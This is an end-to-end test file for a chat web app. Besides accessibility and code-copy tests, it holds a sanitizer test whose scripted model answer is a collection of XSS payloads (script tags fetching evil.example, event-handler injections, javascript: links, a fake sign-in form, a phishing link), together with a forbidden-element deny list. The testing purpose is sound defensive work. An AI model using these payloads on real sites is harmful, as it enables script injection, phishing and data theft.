import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { signUp, type Account } from './account.ts';
import { ask, atRest, composer, conversations, lastAnswer, patience, rows, shows } from './chat-screen.ts';
import { install, type Installation } from './installation.ts';
import { createScriptedModel, type ScriptedModel } from './scripted-model.ts';

const code = Array.from({ length: 150 }, (_, line) => `const line${line} = '${'long '.repeat(30)}${line}';`).join('\n');

const hostile = `# Hello

<script>window.harmed = 'script'; fetch('https://evil.example/script')</script>
<img src="https://evil.example/pixel.png" onerror="window.harmed = 'onerror'">
<img src=x onerror="window.harmed = 'onerror'">
<svg onload="window.harmed = 'svg'"><script>window.harmed = 'svg script'</script></svg>
<iframe src="https://evil.example/frame" srcdoc="<script>parent.harmed = 'frame'</script>"></iframe>
<style>@import url('https://evil.example/style.css'); body { background: url('https://evil.example/bg.png') }</style>
<link rel="stylesheet" href="https://evil.example/link.css"><link rel="preload" as="image" href="//evil.example/p.png">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/"><form action="https://evil.example/form"><input autofocus onfocus="window.harmed = 'focus'"><button>Sign in again</button></form>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<video src="https://evil.example/video.mp4" autoplay></video><audio src="https://evil.example/audio.mp3" autoplay></audio>
<details open ontoggle="window.harmed = 'toggle'"><summary>More</summary>inside</details>
<div style="position:fixed;inset:0;background:url(https://evil.example/div.png)" onclick="window.harmed = 'click'">cover</div>

![pixel](https://evil.example/pixel.png?secret=1) ![data](data:text/html,<script>harmed=1</script>)
![ref][pic]

[pic]: https://evil.example/ref.png

[run me](javascript:window.harmed='link') [vb](vbscript:harmed) [data](data:text/html;base64,PHNjcmlwdD4=)
[my bank](https://evil.example/bank) [https://bank.example](https://evil.example/phish)
<a href="javascript:window.harmed='anchor'">anchor</a>

$$\\href{javascript:window.harmed='math'}{x} \\includegraphics{https://evil.example/math.png} \\htmlData{a=b}{y}$$

\`\`\`html"><img src=x onerror=window.harmed='fence'>
<script>window.harmed = 'code'</script>
\`\`\`

\`\`\`mermaid
graph TD; A["<img src=x onerror=window.harmed='mermaid'>"] --> B; click A "javascript:window.harmed='mermaid'"
\`\`\`

The end of it.`;

const forbidden =
  'script, iframe, object, embed, form, style, link, meta, base, video, audio, img, [onerror], [onclick], [ontoggle], ' +
  '[style*=url], [style*=fixed]';

let home: Installation;
let model: ScriptedModel;
let ada: Account;
let page: Page;

beforeAll(async () => {
  model = await createScriptedModel({ code: `Here you are:\n\n\`\`\`ts\n${code}\n\`\`\`\n\nThat is all.`, hostile });
  home = await install();
  ada = await signUp(home, 'Ada');
  const provider = await ada.client.providers.create({ kind: 'openai-compatible', name: 'Script', baseUrl: model.url });
  for (const name of ['code', 'hostile'])
    await ada.client.bots.create({ name, type: 'writer', model: { providerId: provider.id, name } });
  const fake = await ada.client.providers.create({
    kind: 'openai-compatible',
    name: 'Fake',
    baseUrl: `${home.fake.url}/v1`,
  });
  const name = 'words-60-hold-after-30';
  await ada.client.bots.create({ name: 'slow', type: 'writer', model: { providerId: fake.id, name } });
  page = ada.page;
  await page.goto('/');
});

afterAll(async () => {
  await home?.[Symbol.asyncDispose]();
  await model[Symbol.asyncDispose]();
});

const chatWith = async (bot: string): Promise<void> => {
  await page.getByRole('link', { name: 'Bots', exact: true }).click();
  await page.getByRole('link', { name: `Chat with ${bot}` }).click();
  await page.getByRole('heading', { name: bot, exact: true }).waitFor();
};

test('a long code block is complete, scrolls by itself and is copied to the letter', async () => {
  await ada.context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await chatWith('code');
  await ask(page, 'Write a lot of code.');
  await shows(page, 'That is all.');
  await atRest(page);
  const block = lastAnswer(page).locator('figure');
  await expect.poll(() => block.locator('.md-token').count(), patience).toBeGreaterThan(100);
  const [inner, outer] = await block.locator('pre').evaluate((pre) => [pre.scrollWidth, pre.clientWidth]);
  expect(inner).toBeGreaterThan(outer!);
  const width = await page.evaluate<number>('document.documentElement.scrollWidth');
  expect(width).toBe(1280);

  await block.getByRole('button', { name: 'Copy code' }).click();
  await block.getByText('Copied').waitFor();
  const copied = (): Promise<string> => page.evaluate('navigator.clipboard.readText()');
  expect(await copied()).toBe(code);
  await page.evaluate('navigator.clipboard.writeText("")');
  await page.keyboard.press('Control+Shift+Semicolon');
  await expect.poll(copied, patience).toBe(code);
  await page.keyboard.press('Control+Shift+C');
  await expect.poll(copied, patience).toMatch(/^Here you are:[^]*That is all\.$/);
  expect(ada.faults).toEqual([]);
});

test('a hostile answer runs nothing, loads nothing and leads nowhere unseen', async () => {
  await chatWith('hostile');
  await ask(page, 'Harm me.');
  await shows(page, 'The end of it.');
  await atRest(page);
  const answer = lastAnswer(page).locator('.md');
  const check = async (): Promise<void> => {
    await answer.getByText('leads to evil.example').waitFor();
    expect(await answer.locator(forbidden).evaluateAll((all) => all.map((one) => one.outerHTML))).toEqual([]);
    const links = await answer
      .locator('a')
      .evaluateAll((all) => all.map((one) => [one.getAttribute('href') ?? '', one.getAttribute('rel') ?? '']));
    expect(links.length).toBeGreaterThan(2);
    for (const [href, rel] of links) {
      expect(href).toMatch(/^https:\/\/evil\.example\//);
      expect(rel).toContain('noopener');
    }
    expect(await page.evaluate('window.harmed')).toBeUndefined();
    expect(new URL(page.url()).origin).toBe(home.url);
    expect(ada.faults).toEqual([]);
  };
  await check();
  for (const words of ['run me', 'vb', 'Sign in again']) await answer.getByText(words).first().click();
  await page.reload();
  await shows(page, 'The end of it.');
  await check();
});

test('by keyboard alone: skip link, new chat, composer, answer, help', async () => {
  await chatWith('slow');
  const focus = (place: Locator): Promise<void> => place.and(page.locator(':focus')).waitFor();
  const tabTo = async (key: 'Tab' | 'Shift+Tab', place: Locator): Promise<void> => {
    for (let presses = 0; presses < 40; presses += 1) {
      if ((await place.and(page.locator(':focus')).count()) > 0) return;
      await page.keyboard.press(key);
    }
    throw new Error(`${key} did not lead to ${String(place)}`);
  };
  const main = page.getByRole('main');
  const skip = page.getByRole('link', { name: 'Skip to content' });
  await focus(composer(page));
  await tabTo('Shift+Tab', skip);
  expect((await skip.boundingBox())!.width).toBeGreaterThan(50);
  await page.keyboard.press('Enter');
  await focus(main);

  await page.keyboard.press('?');
  const help = page.getByRole('dialog', { name: 'Keyboard shortcuts' });
  await help.getByText('Copy the last answer').waitFor();
  await page.keyboard.press('Escape');
  await help.waitFor({ state: 'detached' });

  await tabTo('Tab', composer(page));
  await page.keyboard.type('Is there a ? for me');
  expect(await help.count()).toBe(0);
  await page.keyboard.press('Enter');
  await shows(page, 'w30');
  await page.keyboard.press('Escape');
  await shows(page, 'You stopped this answer.');

  await page.keyboard.press('Control+Shift+O');
  await expect.poll(() => rows(page).count(), patience).toBe(0);
  await focus(composer(page));
  await tabTo('Shift+Tab', conversations(page).first());
  await page.keyboard.press('Enter');
  await shows(page, 'You stopped this answer.');
  expect(ada.faults).toEqual([]);
});

test('the focus returns to where it was when a dialog or the drawer closes', async () => {
  const focused = (place: Locator): Promise<void> => place.and(page.locator(':focus')).waitFor();
  await page.getByRole('link', { name: 'Settings', exact: true }).click();
  await page.getByRole('link', { name: 'Models' }).click();
  const add = page.getByRole('button', { name: 'Add provider' });
  await add.press('Enter');
  await page.getByRole('dialog', { name: 'Add provider' }).waitFor();
  await page.keyboard.press('Escape');
  await focused(add);
  await page.keyboard.press('?');
  await page.getByRole('dialog', { name: 'Keyboard shortcuts' }).waitFor();
  await page.keyboard.press('Escape');
  await focused(add);
  await page.setViewportSize({ width: 360, height: 740 });
  const open = page.getByRole('button', { name: 'Open sidebar' });
  await open.press('Enter');
  await page.getByRole('dialog', { name: 'Sidebar' }).waitFor();
  await page.keyboard.press('Escape');
  await focused(open);
  expect(ada.faults).toEqual([]);
});
